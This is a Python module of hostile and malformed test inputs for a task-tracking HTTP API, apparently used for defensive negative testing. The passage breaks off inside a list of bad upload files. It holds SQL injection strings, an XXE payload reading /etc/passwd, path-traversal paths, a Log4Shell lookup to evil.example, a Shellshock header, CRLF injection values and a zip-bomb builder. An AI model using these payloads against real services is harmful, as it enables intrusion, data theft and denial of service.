"""Values that no service should trust, by what they pretend to be; hand-written."""

import io
import json
import zipfile
from collections.abc import Iterator, Mapping, Sequence
from typing import Any

from api.http.input.fields import NOT_BLANK, NOT_EMPTY, STORABLE, TRIMMED

DEEP = 5_000


# What is no JSON text, or not an object, or could be read in two ways: 400.
BROKEN = (
    b"",
    b" ",
    b"{",
    b"}",
    b"{}}",
    b"nonsense",
    b"{'a': 1}",
    b'{"a": 1,}',
    b'{"a": 01}',
    b'{"a": +1}',
    b'{"a": .5}',
    b'{"a": 0x10}',
    b'{"a": 1} {"a": 1}',
    b'{"a": 1}\x00',
    b'{"a": "\x01"}',
    b'{"a": "line\nbreak"}',
    b'{"a": "\\x41"}',
    b'{"a": "\\ud8"}',
    b'{"a": "\xff"}',
    b'{"a": "\xc0\x80"}',
    b'{"a": "\xed\xa0\x80"}',
    b'{"\xff": 1}',
    b"/* a comment */ {}",
    b"null",
    b"true",
    b"0",
    b"-1",
    b'"{}"',
    b"[]",
    b"[{}]",
    b"NaN",
    b'{"a": NaN}',
    b'{"a": -Infinity}',
    b'{"a": [Infinity]}',
    b'{"a": 1, "a": 1}',
    b'{"a": {"b": 1, "b": 2}}',
    b'{"\\u0061": 1, "a": 2}',
    b'{"a": ' + b"[" * 33 + b"]" * 33 + b"}",
    b'{"a": ' + b'{"a":' * DEEP + b"1" + b"}" * DEEP + b"}",
    b"[" * 100_000,
    b'{"a": "' + b"x" * 100_000,
    '{"a": 1}'.encode("utf-16"),
    '{"a": 1}'.encode("utf-32-le"),
    b"a=1&b=2",
    b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    b"--x\r\nContent-Disposition: form-data; name=a\r\n\r\n1\r\n--x--\r\n",
    b"\x1f\x8b\x08\x00\x00\x00\x00\x00",
    b"\x80\x04\x95",
)

# Media types that are not application/json: 415.
OTHER_TYPES = (
    None,
    "",
    "text/plain",
    "text/json",
    "application/xml",
    "application/jsonp",
    "application/json-patch+json",
    "application/merge-patch+json",
    "application/octet-stream",
    "application/x-python-pickle",
    "multipart/form-data; boundary=x",
    "multipart/form-data",
    "application",
    "/",
    ";",
    "application/json, text/plain",
    "\xff\xfe",
)

# JSON announced in another encoding is still read as UTF-8, and this is UTF-8: as good as without.
ODD_CHARSETS = (
    "application/json; charset=utf-16",
    "application/json; charset=",
    "application/json; charset=no-such",
    'application/json; charset="utf-8',
    "APPLICATION/JSON;;;",
)

# Members that nobody asked for; some of them set something in a careless service: 422.
FOREIGN_MEMBERS = (
    ("no_such_field", "1"),
    ("__proto__", "{}"),
    ("constructor", '{"prototype": {}}'),
    ("__class__", '"x"'),
    ("", "1"),
    (" ", "1"),
    ("\x00", "1"),
    ("\ud800", "1"),
    ("a" * 10_000, "1"),
    ("name\r\nX-Injected: 1", "1"),
    ("id", "1"),
    ("owner_id", "1"),
    ("user_id", "1"),
    ("role", '"admin"'),
    ("is_active", "false"),
    ("version", "1"),
    ("created_by", "1"),
    ("password_hash", '"x"'),
    ("is_admin", "true"),
    ("created_at", '"2020-01-01T00:00:00Z"'),
    ("updated_at", "null"),
    ("deleted_at", "null"),
    ("completed_at", "null"),
    ("session_id", '"x"'),
    ("scopes[]", '"users:admin"'),
)

_ANY_TYPE = ("true", "[]", "{}", "[[[]]]", '{"$ne": null}')
TEXTS = ("1", "-1.5", *_ANY_TYPE, '"\\u0000"', '"a\\u0000b"', '"\\ud800"', '"\\udfff\\ud800"')
NUMBERS = (
    "-1",
    "9223372036854775808",
    "-9223372036854775809",
    "9" * 5_000,
    "-" + "9" * 5_000,
    "1e400",
    "-1e400",
    "1e999999999",
    "1e99999999999999999999",
    "-0.5e-999999999",
    '"1"',
    '"١"',
    '"0x10"',
    *_ANY_TYPE,
)
INTEGERS = (*NUMBERS, "0", "1.5", "1.0", "1e2")
AMOUNTS = (*NUMBERS, "0.001", "-0.01", "10000000000", "9999999999.999", "1e-307", "1E+10", "12345678901234567890.12")
BOOLEANS = ("0", "1", '"true"', '"false"', '""', "[]", "{}", "[true]")
LISTS = ('"a"', "1", "{}", '{"0": "a"}', "[null]", "[[]]", "[{}]", "[1e400]", '["\\ud800"]')
DAYS = (
    '""',
    '"0000-00-00"',
    '"0000-01-01"',
    '"2023-02-29"',
    '"2023-02-30"',
    '"2026-13-01"',
    '"2026-1-1"',
    '"10000-01-01"',
    '"-2026-01-01"',
    '"20260101"',
    '"2026-W01-1"',
    '"2026-01-01T00:00:00Z"',
    '" 2026-01-01"',
    '"٢٠٢٦-٠١-٠١"',
    '"today"',
    "20260101",
    *_ANY_TYPE,
)
MOMENTS = (
    '""',
    '"0000-00-00T00:00:00Z"',
    '"0001-01-01T00:00:00+14:00"',
    '"9999-12-31T23:59:59-14:00"',
    '"2026-02-30T00:00:00Z"',
    '"2026-01-01T24:00:01Z"',
    '"2026-01-01T23:59:60Z"',
    '"2026-01-01T00:00:00"',
    '"2026-01-01T00:00:00+25:00"',
    '"2026-01-01T00:00:00 Europe/Berlin"',
    '"2026-01-01"',
    '"now"',
    "1767225600",
    *_ANY_TYPE,
)
EMAILS = (
    '""',
    '"a"',
    '"@"',
    '"a@"',
    '"@b.example"',
    '"a@b@c.example"',
    '"a b@c.example"',
    '"a@b..example"',
    '"a@-b.example"',
    '"a@b.example\\nBcc: c@d.example"',
    '"a@b.example\\r\\n.\\r\\n"',
    '"<a@b.example>"',
    '"A <a@b.example>"',
    '"a@[127.0.0.1]"',
    '"a\\u0000@b.example"',
    '"😀@b.example"',
    '"a,b@c.example,d@e.example"',
    *_ANY_TYPE,
)
# Where only some characters are allowed.
WORDS = (
    '""',
    '" "',
    '"a b"',
    '"../x"',
    '"a\\nda"',
    '"аda"',
    '"İstanbul"',
    '"straße"',
    '"😀😀😀"',
    '"ad\\u0301a"',
    *TEXTS,
)


def allows_some_characters_only(schema: Mapping[str, Any]) -> bool:
    """Return whether a pattern says more than that a text can be stored and seen."""
    return schema.get("pattern") not in (None, STORABLE, NOT_EMPTY, NOT_BLANK, TRIMMED)


def kind_of(schema: Mapping[str, Any]) -> Sequence[str]:
    """Return JSON texts of which a field refuses all, because of what it is; such fields share them."""
    if "enum" in schema:
        return TEXTS
    if allows_some_characters_only(schema):
        return WORDS
    kind = schema.get("type")
    return _BY_TYPE.get((kind, schema.get("format")), _BY_TYPE.get((kind, None), ()))


def bounds_of(schema: Mapping[str, Any]) -> Iterator[str]:
    """Yield JSON texts beyond what a field says of itself."""
    if schema.get("type") not in (None, "object") and not schema.get("x-nullable"):
        yield "null"
    if "enum" in schema:
        word = schema["enum"][0]
        yield from ('""', '"no_such"', f'"{word} "', f'"{word.upper()}"')
    if "maxLength" in schema:
        for letter, length in (("x", schema["maxLength"] + 1), ("😀", schema["maxLength"] + 1), ("x", 200_000)):
            yield json.dumps(letter * length)
    if schema.get("minLength"):
        yield '""'


_BY_TYPE: dict[tuple[str | None, str | None], Sequence[str]] = {
    ("string", None): TEXTS,
    ("string", "date"): DAYS,
    ("string", "date-time"): MOMENTS,
    ("string", "email"): EMAILS,
    ("integer", None): INTEGERS,
    ("number", None): AMOUNTS,
    ("boolean", None): BOOLEANS,
    ("array", None): LISTS,
    ("object", None): ('"a"', "1", "true", "[]", '[{"a": 1}]'),
}

# --- addresses ----------------------------------------------------------------------

# Percent-encoded, as they stand in a path where a number is wanted: 404.
PATH_NUMBERS = (
    "0",
    "-1",
    "+1",
    "9223372036854775808",
    "99999999999999999999",
    "9" * 5_000,
    "1.0",
    "1e3",
    "0x10",
    "1_000",
    "%D9%A1",
    "%EF%BC%91",
    "%00",
    "1%00",
    "%0d%0aX-Injected:1",
    "%20",
    "1%20",
    "%ff%fe",
    "%ed%a0%80",
    "..",
    "%2e%2e%2fwelcome",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%252e%252e",
    "null",
    "NaN",
    "me",
    "[1]",
    "{1}",
    "1,2",
    "1;2",
    "1%27%20OR%201=1--",
    "*",
    "%25",
    "%F0%9F%92%A9",
    "a" * 5_000,
)

# Where an opaque id is wanted: 404.
PATH_IDS = (
    "00000000-0000-0000-0000-000000000000",
    "00000000-0000-0000-0000-00000000000g",
    "%7B00000000-0000-0000-0000-000000000000%7D",
    "urn:uuid:00000000-0000-0000-0000-000000000000",
    "%D9%A1" * 32,
    *(path for path in PATH_NUMBERS if path not in ("..", "%2e%2e%2fwelcome", "..%2f..%2f..%2fetc%2fpasswd")),
)

# Percent-encoded values of parameters, by the type that the document gives them: 400.
QUERY_INTEGERS = (
    "",
    "0",
    "-1",
    "9223372036854775808",
    "-9223372036854775809",
    "9" * 5_000,
    "1.0",
    "1e3",
    "0x10",
    "1_000",
    "+1",
    "%201",
    "1%00",
    "%D9%A1",
    "%EF%BC%91",
    "NaN",
    "Infinity",
    "true",
    "1,2",
    "1%0d%0aX-Injected:1",
    "1%27%20OR%201=1--",
    "%ff",
)
QUERY_WORDS = ("", ",", "no_such", "no_such,", "%00", "%ff", "%F0%9F%92%A9", "a" * 5_000, "1", "null", "%0a")
QUERY_BOOLEANS = ("", "1", "0", "True", "TRUE", "yes", "on", "null", "true%20", "true%00", "true,false", "%ff")
QUERY_DAYS = (
    "",
    "0000-00-00",
    "0000-01-01",
    "2023-02-30",
    "2026-13-01",
    "10000-01-01",
    "-2026-01-01",
    "20260101",
    "2026-W01-1",
    "2026-01-01%00",
    "%D9%A2%D9%A0%D9%A2%D9%A6-01-01",
    "today",
    "1767225600",
    "%ff",
)
QUERY_MOMENTS = (
    *(day for day in QUERY_DAYS if day != "0000-01-01"),
    "0000-00-00T00:00:00Z",
    "0001-01-01T00:00:00%2B14:00",
    "9999-12-31T23:59:59-14:00",
    "2026-01-01T24:00:01Z",
    "2026-01-01T00:00:60Z",
    "2026-01-01T00:00:00%2B25:00",
    "2026-01-01T00:00:00Europe/Berlin",
)
QUERY_AMOUNTS = ("", "-1", "1e3", "1.234", "NaN", "Infinity", "9" * 5_000, "1,00", "%D9%A1", "1%00", "%ff", "0x1")

# Of a name or one of some words.
QUERY_NAMES = ("", ",", "no_such", "%00", "%ff", "%F0%9F%92%A9", "a" * 5_000, "Me", "null", "%0a")
QUERY_TEXTS = ("", "%00", "a%00b", "a" * 5_000)
QUERY_ZONES = (
    "",
    "Nowhere",
    "UTC%00",
    "..%2f..%2fetc%2fpasswd",
    "%2fetc%2flocaltime",
    "UTC%2B1",
    "%ff",
    "a" * 5_000,
    "posixrules",
)

# Cursors that nobody has signed: 400.
CURSORS = (
    "a",
    ".",
    "..",
    "a.b.c",
    ".eJw",
    "W10.AAAAAA.AAAA",
    "W10=.AAAAAA.AAAA",
    ".eJyLjgUAARUAuQ.AAAAAA.AAAA",
    "%00",
    "%ff",
    "%F0%9F%92%A9",
    "-1",
    "null",
    "eyJhIjoxfQ==",
    "%80%04%95",
    "a" * 10_000,
)
SORTS = (
    "",
    ",",
    "-",
    "--id",
    "+id",
    "id,id",
    "id,-id",
    "id%20DESC",
    "id;DROP%20TABLE%20tasks",
    "(SELECT%201)",
    "password_hash",
    "owner.password_hash",
    "__class__",
    "id%00",
    "%ff",
    "%C4%B0d",
    "id," * 1_000,
)
UNKNOWN_PARAMETERS = (
    "no_such=1",
    "page[]=1",
    "page%5Bgte%5D=1",
    "id=1",
    "filter=1",
    "_method=DELETE",
    "format=xml",
    "callback=alert",
    "%00=1",
    "%ff=1",
    "=1",
    "a" * 5_000 + "=1",
    "__proto__[x]=1",
    "%0d%0aX-Injected:1=1",
    "%F0%9F%92%A9",
)

# What a database might take for something else than words; looking for it finds nothing, or the words: 200.
WORDS_TO_FIND = (
    "'",
    "''",
    '"',
    '""',
    '"unclosed',
    "' OR '1'='1",
    "'; DROP TABLE tasks; --",
    "%",
    "_",
    "%%%%%%%%",
    "\\",
    "\\%",
    "a\\",
    "*",
    "a*",
    "^a",
    "a:*",
    "a & b",
    "a | b",
    "!a",
    "!!!",
    "<->",
    "a <-> b",
    "a <2> b",
    "(a",
    "a)",
    "((((((((((",
    "NEAR(a b)",
    "NEAR/2",
    "a NEAR b",
    "AND",
    "OR OR OR",
    "NOT",
    "title:a",
    "{title}: a",
    "rowid:1",
    "-a",
    "+a",
    "^",
    "~a",
    "a~2",
    "$$",
    "$1",
    ":name",
    "?",
    "{{7*7}}",
    "${7*7}",
    "%s%n%x",
    "<script>alert(1)</script>",
    "&lt;mark&gt;",
    "<mark>",
    "(a+)+$",
    "^(([a-z])+.)+[A-Z]([a-z])+$",
    "a" * 200,
    "a " * 100,
    "ﷺ" * 100,
    "İ",
    "ß",
    "ẞ",
    "ſ",
    "ı",
    "e\u0301",
    "\u202e gnirts",
    "\u200b",
    "\ufeff",
    "\ufffd",
    "\U000e0041",
    "👩‍👩‍👧‍👦",
    "Z" + "\u0310" * 50,
    "١٢٣",
    "中文",
    "ก็็็็็็็",
    "\x01\x02",
    "\x7f",
    "\x85",
    "\u2028",
    "a\r\nX-Injected: 1",
)

# --- headers ------------------------------------------------------------------------

# Hosts that no URL can have: 400.
HOSTS = (
    "a b",
    "[::1",
    "a:99999",
    "a:b",
    "foo@bar",
    "a/b",
    "a\\b",
    "a?b",
    "a#b",
    "",
    "\xe4",
    "<script>",
    "a\tb",
    "a..b@c",
    "'",
    "a,b",
)

# Tags that cannot be read: 400.
TAGS = ("", "zzz", '"', '"a', 'a"', "W/", "W/zzz", 'w/"a"', '"a" "b"', '*, "a"', '"a\x7f"', "**", ",", "\xff")
# Tags that can be read and name nothing that is there.
UNKNOWN_TAGS = (
    '"zzz"',
    'W/"zzz"',
    '""',
    '"a", "b"',
    ',,"a",,',
    '"\xff"',
    ", ".join(f'"{number}"' for number in range(3000)),
)

# What no answer of ours can be: 406.
ACCEPTS = (
    "image/png",
    "text/html",
    "application/xml",
    "application/json;q=0",
    "application/json;q=0, */*",
    "*/*;q=0",
    "text/*",
    "application/json;q=0.0, text/plain",
    "*",
    "q=;;,",
)
# What is nonsense, and then no reason not to answer.
ODD_ACCEPTS = (
    "",
    ",",
    ";q=1, */*",
    "*/*;q=x",
    "*/*;q=-1",
    "*/*;q=9",
    "\xff, */*",
    "a" * 5_000 + ", */*",
    "*/*, " * 500,
)

IDEMPOTENCY_KEYS = ("", "a" * 256, "a\tb", "\x01", "\x7f", "\xe4", "a\x00b", "\r\nX-Injected: 1")

# Credentials that are none: 401.
AUTHORIZATIONS = (
    "",
    " ",
    "Bearer",
    "Bearer ",
    "Bearer a",
    "Bearer a b",
    "Bearer a.b",
    "Bearer a.b.c",
    "Bearer a.b.c.d.e",
    "Bearer ...",
    "Bearer \xff",
    "Bearer e30.e30.",
    "Bearer bnVsbA.bnVsbA.AAAA",
    "Bearer W10.W10.AAAA",
    "Bearer " + "a" * 20_000,
    "Bearer " + "eyJ." * 1_000,
    "Bearer null",
    "Bearer undefined",
    "bearer",
    "Token abc",
    "Basic",
    "Basic !!!",
    "Basic YTpi",
    "Basic \xff",
    "Basic OgA=",
    "Digest username=a",
    "Negotiate YII=",
    "AWS4-HMAC-SHA256 Credential=a",
    "\xff\xfe",
    "Bearer\ta.b.c",
    "a" * 10_000,
)
API_KEYS = (
    "",
    " ",
    "tl_",
    "tl_x",
    "tl_" + "0" * 48,
    "tl_" + "0" * 5_000,
    "\xff",
    "' OR 1=1 --",
    "tl_" + "٠" * 24,
    "null",
)
COOKIES = (
    "tasklane_session=",
    "tasklane_session=a.b.c",
    "tasklane_session=\xff",
    'tasklane_session="a\\',
    "tasklane_session=a; tasklane_session=b",
    "tasklane_session=" + "a" * 10_000,
    "=;;;==",
    "\xff=\xff",
    "tasklane_csrf=a",
    "; " * 2_000,
)

CSRF_TOKENS = (None, "", "x", "\xff", "null", "a" * 10_000, "00000000-0000-0000-0000-000000000000")

# What must change nothing at all.
IGNORED_HEADERS: tuple[tuple[str, str], ...] = (
    ("X-HTTP-Method-Override", "DELETE"),
    ("X-HTTP-Method", "DELETE"),
    ("X-Method-Override", "PUT"),
    ("X-Original-URL", "/api/v1/users"),
    ("X-Rewrite-URL", "/api/v1/users"),
    ("X-Forwarded-Host", "evil.example"),
    ("X-Forwarded-Proto", "javascript"),
    ("X-Forwarded-Prefix", "//evil.example"),
    ("X-Forwarded-For", "' OR 1=1"),
    ("X-Forwarded-Port", "99999"),
    ("Forwarded", "for=evil.example;host=evil.example"),
    ("X-Real-IP", "127.0.0.1"),
    ("X-Fields", "id,title"),
    ("X-Fields", "{{{"),
    ("X-Request-ID", ""),
    ("X-Request-ID", "a" * 5_000),
    ("X-Request-ID", "a\r\nX-Injected: 1"),
    ("X-Request-ID", "<script>"),
    ("X-Request-ID", "\xff"),
    ("X-CSRF-TOKEN", "\xff"),
    ("X-User-Id", "1"),
    ("X-Admin", "true"),
    ("Origin", "null"),
    ("Origin", "https://evil.example"),
    ("Referer", "\xff"),
    ("User-Agent", "() { :; }; echo"),
    ("User-Agent", "${jndi:ldap://evil.example/a}"),
    ("User-Agent", "a" * 20_000),
    ("User-Agent", "\xff"),
    ("Accept-Encoding", "\xff"),
    ("Accept-Encoding", "gzip;q=x, br"),
    ("Accept-Language", "*;q=x"),
    ("Accept-Charset", "utf-7"),
    ("Range", "bytes=0-1"),
    ("Range", "bytes=9-1, -, a-b"),
    ("If-Range", "\xff"),
    ("If-Modified-Since", "\xff"),
    ("If-Unmodified-Since", "Thu, 01 Jan 1970 00:00:00 GMT"),
    ("Expect", "200-ok"),
    ("Upgrade", "h2c"),
    ("TE", "trailers, x"),
    ("Max-Forwards", "-1"),
    ("Date", "tomorrow"),
    ("Content-Language", "\xff"),
    ("Content-MD5", "x"),
    ("Content-Range", "bytes 0-1/2"),
    ("Cookie", "a=\xff; ==;;"),
)

METHODS = ("TRACE", "CONNECT", "PROPFIND", "LOCK", "SEARCH", "FOO", "\xff", "GET/", "", "A" * 5_000)

NOWHERE = (
    "/api/v1",
    "/api/v1//tasks",
    "/api/v1/./tasks",
    "/api/v1/../v1/tasks",
    "/api/v1/%2e%2e/v1/tasks",
    "/api/v1/tasks%00",
    "/api/v1/tasks%20",
    "/api/v1/tasks;a=b",
    "/api/v1/tasks.json",
    "/api/v1/TASKS",
    "/api/v1/t%C4%B1sks",
    "/api/v1/tasks/1/2/3",
    "/api/v2/tasks",
    "/api/v1/admin",
    "/api/v1/users/1/password",
    "/api/swagger.json/..",
    "/api/swaggerui/../../core/platform/config/load.py",
    "/api/swaggerui/..%2f..%2f..%2fcore%2fconfig.py",
    "/swaggerui/%2e%2e/%2e%2e/config.toml",
    "/static/../config.toml",
    "/.env",
    "/.git/config",
    "/config.toml",
    "/instance/config.toml",
    "/console",
    "/wp-login.php",
    "/cgi-bin/%2e%2e/%2e%2e/bin/sh",
    "//evil.example",
    "//evil.example/%2f..",
    "/%0d%0aX-Injected:1",
    "/%ff%fe",
    "/%00",
    "/" + "a/" * 2_000,
    "/" + "%F0%9F%92%A9" * 500,
    "*",
)

# Claims of a token that is signed as it should be; ... leaves one out.
WRONG_CLAIMS: tuple[tuple[str, Any], ...] = (
    ("sub", 1),
    ("sub", "0"),
    ("sub", "9" * 5_000),
    ("sub", None),
    ("sub", ["1"]),
    ("sub", "1\x00"),
    ("sub", "١"),
    ("sub", ...),
    ("sid", ...),
    ("sid", 1),
    ("sid", None),
    ("sid", []),
    ("sid", {"a": 1}),
    ("sid", ""),
    ("sid", "\x00"),
    ("sid", "\ud800"),
    ("sid", "' OR 1=1 --"),
    ("sid", "a" * 20_000),
    ("type", "refresh"),
    ("exp", 0),
    ("exp", -(2**70)),
    ("exp", "tomorrow"),
    ("exp", [2**31]),
    ("exp", None),
    ("nbf", 2**40),
    ("nbf", "x"),
    ("iat", "x"),
    ("iat", 2**40),
)


def _form(*parts: tuple[str, bytes], end: bytes = b"--x--\r\n") -> bytes:
    return b"".join(b"--x\r\n%s\r\n\r\n%s\r\n" % (head.encode("latin-1"), body) for head, body in parts) + end


_FORM = "multipart/form-data; boundary=x"
_FILE = 'Content-Disposition: form-data; name="file"; filename="items.csv"'
_KIND = 'Content-Disposition: form-data; name="kind"'
_ROWS = b"name,price\nPrinter,5\n"
_SOUND = ((_KIND, b"items"), (_FILE, _ROWS))


def _text(name: str) -> str:
    return f'Content-Disposition: form-data; name="{name}"'


# Status, media type and body of uploads.
FORMS: tuple[tuple[int, str, bytes], ...] = (
    (415, "application/json", b"{}"),
    (415, "text/csv", _ROWS),
    (415, "application/x-www-form-urlencoded", b"kind=items&file=name"),
    (415, "multipart/mixed; boundary=x", _form(*_SOUND)),
    (400, "multipart/form-data", _form(*_SOUND)),
    (400, "multipart/form-data; boundary=", _form(*_SOUND)),
    (400, "multipart/form-data; boundary=y", _form(*_SOUND)),
    (400, "multipart/form-data; boundary=" + "x" * 5_000, _form(*_SOUND)),
    (400, "multipart/form-data; boundary=\xff", _form(*_SOUND)),
    (400, _FORM, b""),
    (400, _FORM, b"x"),
    (400, _FORM, b"--x"),
    (400, _FORM, _form(*_SOUND, end=b"")),
    (400, _FORM, _form(*_SOUND)[:60]),
    (400, _FORM, _form(*_SOUND)[:-30]),
    (400, _FORM, b"--x\r\n" + b"a" * 100_000),
    (400, _FORM, b"--x\r\nContent-Disposition\r\n\r\n"),
    (422, _FORM, b"--x--\r\n"),
    (422, _FORM, _form((_KIND, b"items"))),
    (422, _FORM, _form((_FILE, _ROWS))),
    (422, _FORM, _form(*_SOUND, (_KIND, b"items"))),
    (422, _FORM, _form(*_SOUND, (_FILE, _ROWS))),
    (422, _FORM, _form((_KIND, b"items"), (_text("file"), _ROWS))),
    (422, _FORM, _form((_text("kind") + '; filename="a"', b"items"), (_FILE, _ROWS))),
    (422, _FORM, _form((_KIND, b"no_such"), (_FILE, _ROWS))),
    (422, _FORM, _form((_KIND, b"items\x00"), (_FILE, _ROWS))),
    (400, _FORM, _form((_KIND, b"\xff\xfe"), (_FILE, _ROWS))),
    (422, _FORM, _form((_KIND, b""), (_FILE, _ROWS))),
    (422, _FORM, _form(*_SOUND, (_text("dry_run"), b"1"))),
    (422, _FORM, _form(*_SOUND, (_text("on_error"), b"ignore"))),
    (422, _FORM, _form(*_SOUND, (_text("match"), b"password_hash"))),
    (422, _FORM, _form(*_SOUND, (_text("format"), b"xlsx"))),
    (422, _FORM, _form(*_SOUND, (_text("owner_id"), b"1"))),
    (422, _FORM, _form(*_SOUND, (_text("\x00"), b"1"))),
    (400, _FORM, _form(*_SOUND, (_text("\xff"), b"1"))),
    (422, _FORM, _form(*_SOUND, (_text("a" * 5_000), b"1"))),
    (422, _FORM, _form(*_SOUND, (_text("__proto__"), b"1"))),
    (422, _FORM, _form(*_SOUND, (_text("file") + '; filename="b.csv"', _ROWS))),
    (422, _FORM, _form((_KIND, b"items"), (_FILE.replace("items.csv", "items.xlsx"), b"PK\x03\x04"))),
    (422, _FORM, _form((_KIND, b"items"), (_FILE.replace("items.csv", "items"), _ROWS))),
    (413, _FORM, _form(*_SOUND, *((_text(f"a{number}"), b"1") for number in range(60)))),
    (413, _FORM, _form(*_SOUND, (_text("kind"), b"x" * 300_000))),
    (400, _FORM, _form(("Content-Disposition: form-data", b"1"), *_SOUND)),
    (400, _FORM, _form(("X: " + "a" * 200_000, b"1"), *_SOUND)),
)

# What is wrong inside of lists and objects. The braces are JSON.
_BULK, _EXPORT = "POST /api/v1/tasks/bulk", "POST /api/v1/exports"
_CREATE = '{"operations": [{"op": "create", "task": %s}]}'
NESTED: tuple[tuple[str, str], ...] = (
    (_BULK, '{"operations": []}'),
    (_BULK, '{"operations": [' + '{"op": "delete", "id": 1},' * 100 + '{"op": "delete", "id": 1}]}'),
    (_BULK, '{"operations": [[]]}'),
    (_BULK, '{"operations": [{"op": "drop"}]}'),
    (_BULK, '{"operations": [{"op": "delete"}]}'),
    (_BULK, '{"operations": [{"op": "delete", "id": 0}]}'),
    (_BULK, '{"operations": [{"op": "delete", "id": 9223372036854775808}]}'),
    (_BULK, '{"operations": [{"op": "delete", "id": 1, "task": {}}]}'),
    (_BULK, '{"operations": [{"op": "delete", "id": 1, "version": 0}]}'),
    (_BULK, '{"operations": [{"op": "update", "id": 1, "task": []}]}'),
    (_BULK, '{"operations": [{"op": "update", "id": 1, "task": {"owner_id": 1}}]}'),
    (_BULK, '{"operations": [{"op": "create", "id": 1, "task": {"title": "x"}}]}'),
    (_BULK, '{"operations": [{"op": "create"}]}'),
    (_BULK, '{"operations": [{"op": "create", "task": {"title": "x"}, "owner_id": 1}]}'),
    (_BULK, _CREATE % "null"),
    (_BULK, _CREATE % '"x"'),
    (_BULK, _CREATE % "[]"),
    (_BULK, _CREATE % "{}"),
    (_BULK, _CREATE % '{"title": ""}'),
    (_BULK, _CREATE % '{"title": "\\u0000"}'),
    (_BULK, _CREATE % '{"title": "\\ud800"}'),
    (_BULK, _CREATE % '{"title": ["x"]}'),
    (_BULK, _CREATE % '{"title": "x", "due_date": "2023-02-30"}'),
    (_BULK, _CREATE % '{"title": "x", "due_date": "0000-00-00"}'),
    (_BULK, _CREATE % '{"title": "x", "assignee_id": 1e400}'),
    (_BULK, _CREATE % '{"title": "x", "assignee_id": 9223372036854775807}'),
    (_BULK, _CREATE % '{"title": "x", "project_id": 9223372036854775807}'),
    (_BULK, _CREATE % '{"title": "x", "item_id": 9223372036854775807}'),
    (_BULK, _CREATE % '{"title": "x", "\\ud800": 1}'),
    (_EXPORT, '{"kind": "tasks", "format": "csv", "filters": {"no_such": 1}}'),
    (_EXPORT, '{"kind": "tasks", "format": "csv", "filters": {"\\u0000": 1}}'),
    (_EXPORT, '{"kind": "tasks", "format": "csv", "filters": {"page": 1}}'),
    (_EXPORT, '{"kind": "tasks", "format": "csv", "filters": {"status": []}}'),
    (_EXPORT, '{"kind": "tasks", "format": "csv", "filters": {"status": ["pending", null]}}'),
    (_EXPORT, '{"kind": "tasks", "format": "csv", "filters": {"status": {"a": 1}}}'),
    (_EXPORT, '{"kind": "tasks", "format": "csv", "filters": {"owner_id": 1.5}}'),
    (_EXPORT, '{"kind": "tasks", "format": "csv", "filters": {"owner_id": 1e308}}'),
    (_EXPORT, '{"kind": "tasks", "format": "csv", "filters": {"owner_id": -1}}'),
    (_EXPORT, '{"kind": "tasks", "format": "csv", "filters": {"q": ""}}'),
    (_EXPORT, '{"kind": "tasks", "format": "csv", "filters": {"q": "a\\u0000"}}'),
    (_EXPORT, '{"kind": "tasks", "format": "csv", "filters": {"due_date[lt]": "2023-02-30"}}'),
    (_EXPORT, '{"kind": "tasks", "format": "csv", "sort": "password_hash"}'),
    (_EXPORT, '{"kind": "items", "format": "csv", "filters": {"price[gte]": 1e-300}}'),
    (_EXPORT, '{"kind": "items", "format": "csv", "filters": {"price[gte]": "1e3"}}'),
    ("POST /api/v1/auth/keys", '{"name": "x", "scopes": ["tasks:read", "tasks:read"]}'),
    ("POST /api/v1/auth/keys", '{"name": "x", "scopes": ["*"]}'),
    ("POST /api/v1/auth/keys", '{"name": "x", "scopes": ["credentials:manage"]}'),
    ("POST /api/v1/auth/keys", '{"name": "x", "scopes": ["tasks:read"], "expires_at": "0001-01-01T00:00:00Z"}'),
    ("POST /api/v1/projects", '{"key": "OPS\\n", "name": "x"}'),
    ("POST /api/v1/projects", '{"key": "ÖPS", "name": "x"}'),
    ("POST /api/v1/reports", '{"from": "2026-01-02", "to": "2026-01-01"}'),
    ("POST /api/v1/reports", '{"from": "0001-01-01", "to": "9999-12-31"}'),
    ("POST /api/v1/reports", '{"to": "0001-01-01"}'),
    ("POST /api/v1/reports", '{"time_zone": "../../etc/passwd"}'),
    ("POST /api/v1/tasks/transfer", '{"from_user_id": 1, "to_user_id": 2, "task_ids": [1, 1]}'),
    ("POST /api/v1/tasks/transfer", '{"from_user_id": 1, "to_user_id": 2, "task_ids": []}'),
    (
        "POST /api/v1/tasks/transfer",
        '{"from_user_id": 1, "to_user_id": 2, "task_ids": ' + str(list(range(1, 1002))) + "}",
    ),
)

LOGIN_FORMS: tuple[tuple[tuple[int, ...], bytes], ...] = (
    ((400,), b"username=a&password=b"),
    ((400,), b"grant_type=authorization_code&code=x"),
    ((400,), b"grant_type=password"),
    ((400,), b"grant_type=password&username=a"),
    ((400,), b"grant_type=password&grant_type=refresh_token&username=a&username=b"),
    ((400,), b"grant_type=password&username=&password="),
    ((400,), b"grant_type=password&username=%00&password=b"),
    ((400,), b"grant_type=password&username=%ff&password=%ff"),
    ((401,), b"grant_type=password&username=' OR 1=1 --&password=' OR 1=1 --"),
    ((401,), b"grant_type=password&username=" + b"a" * 100_000 + b"&password=b"),
    ((401,), b"grant_type=password&username=a&password=" + b"b" * 100_000),
    ((400,), b"&".join(b"a%d=1" % number for number in range(2_000))),
    ((400,), b"\xff\xfe=\xff"),
    ((400,), b"%"),
    ((400,), b'{"username": "a", "password": "b"}'),
    ((400,), b"password=b" * 20_000),
)

# --- files --------------------------------------------------------------------------


def _zip_bomb() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\x00" * 10_000_000)
    return packed.getvalue()


# Name and content of files from which no item can come.
FILES: tuple[tuple[str, bytes], ...] = (
    ("empty.csv", b""),
    ("blank.csv", b"\n\n\n"),
    ("bom.csv", b"\xef\xbb\xbf"),
    ("header.csv", b"no,such,columns\n1,2,3\n"),
    ("twice.csv", b"name,name,price\na,b,1\n"),
    ("nul.csv", b"name,price\na\x00b,1\n"),
    ("latin-1.csv", b"name,price\n\xe4,1\n"),
    ("surrogate.csv", b"name,price\n\xed\xa0\x80,1\n"),
    ("quote.csv", b'name,price\n"never closed,1\n' + b"a,1\n" * 1_000),
    ("wide.csv", b",".join(b"c%d" % number for number in range(10_000)) + b"\n"),
